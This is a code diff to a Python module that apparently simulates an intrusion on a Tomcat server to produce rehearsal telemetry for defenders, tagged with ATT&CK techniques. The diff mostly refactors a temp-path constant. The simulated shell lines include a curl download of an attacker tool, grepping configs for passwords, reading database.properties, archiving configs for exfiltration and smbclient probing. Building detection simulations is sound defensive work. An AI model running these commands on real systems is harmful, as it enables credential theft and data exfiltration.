@@ -19,7 +19,8 @@ from tocsin.rehearse.stories.profile import Profile
 from tocsin.rehearse.stories.story import Story, working_day
 
 _TARGET: Final = "/search/status.jsp"
-_TOOL: Final = "/var/tmp/.cache-update"
+_SPOOL: Final = "/var/tmp"  # noqa: S108 - theirs, not ours
+_TOOL: Final = f"{_SPOOL}/.cache-update"
 
 
 def tell(scene: Scene, profile: Profile, seed: int) -> tuple[Story, Iterator[int]]:
@@ -121,7 +122,7 @@ def _settles(scene: Scene, story: Story, own: Means, machine: Machine, app: Runn
         shell_line(scene, machine, at + 200_000, app, f"curl -k -s -o {_TOOL} https://{site.name}/u/x64", "/srv/legis")
         _speaks(scene, story, machine, own, at + 260_000, received=1_120_300)
         shell_line(scene, machine, at + 9_000_000, app, f"chmod 755 {_TOOL}", "/srv/legis")
-        return linux.run(scene, machine, at + 12_000_000, _TOOL, f"{_TOOL} -d", app, folder="/var/tmp")
+        return linux.run(scene, machine, at + 12_000_000, _TOOL, f"{_TOOL} -d", app, folder=_SPOOL)
 
 
 def _speaks(
@@ -158,13 +159,13 @@ def _takes(scene: Scene, story: Story, own: Means, machine: Machine, tool: Runni
         with story.step(
             scene, ts_us, "T1552.001", "Passwords are looked for in configurations", host=machine.host, account="tomcat"
         ):
-            shell_line(scene, machine, ts_us, tool, "grep -rn password /srv/legis/conf", "/var/tmp")
-            shell_line(scene, machine, ts_us + 30_000_000, tool, "cat /srv/legis/conf/database.properties", "/var/tmp")
+            shell_line(scene, machine, ts_us, tool, "grep -rn password /srv/legis/conf", _SPOOL)
+            shell_line(scene, machine, ts_us + 30_000_000, tool, "cat /srv/legis/conf/database.properties", _SPOOL)
     at = ts_us + 8 * MINUTE
     if profile.does("T1560.001 T1041"):
         size = 1_900_000 + story.dice.below(900_000)
         with story.step(scene, at, "T1560.001", "Configurations are packed", host=machine.host, account="tomcat"):
-            shell_line(scene, machine, at, tool, "tar -czf /var/tmp/.c.tgz /srv/legis/conf /etc/nginx", "/var/tmp")
+            shell_line(scene, machine, at, tool, "tar -czf /var/tmp/.c.tgz /srv/legis/conf /etc/nginx", _SPOOL)
         with story.step(
             scene, at + MINUTE, "T1041", "The archive leaves for their server", host=machine.host, account="tomcat"
         ):
@@ -175,7 +176,7 @@ def _takes(scene: Scene, story: Story, own: Means, machine: Machine, tool: Runni
 
 def _tries_inside(scene: Scene, story: Story, machine: Machine, tool: Running, ts_us: int) -> None:
     """The password that was found is tried inside, and refused."""
-    body, dice = story.body, story.dice
+    body = story.body
     account = f"{body.netbios}\\svc-legis"
     files = scene.machine(body.one("file"))
     with story.step(
@@ -186,7 +187,7 @@ def _tries_inside(scene: Scene, story: Story, machine: Machine, tool: Running, t
         host=files.host,
         account=account,
     ):
-        shell_line(scene, machine, ts_us, tool, f"smbclient -L //{files.host.address} -U svc-legis", "/var/tmp")
+        shell_line(scene, machine, ts_us, tool, f"smbclient -L //{files.host.address} -U svc-legis", _SPOOL)
         for number in range(4):
             at = ts_us + 1_000_000 + number * 7_000_000
             link = network.connect(
@@ -201,7 +202,6 @@ def _tries_inside(scene: Scene, story: Story, machine: Machine, tool: Running, t
                 service="gssapi,smb,ntlm",
             )
             logons.failed(scene, files, at + 200_000, account, 3, source=machine.host, port=link.sport)
-    assert dice
 
 
 def _is_cut_off(scene: Scene, story: Story, own: Means, machine: Machine, ts_us: int) -> None:
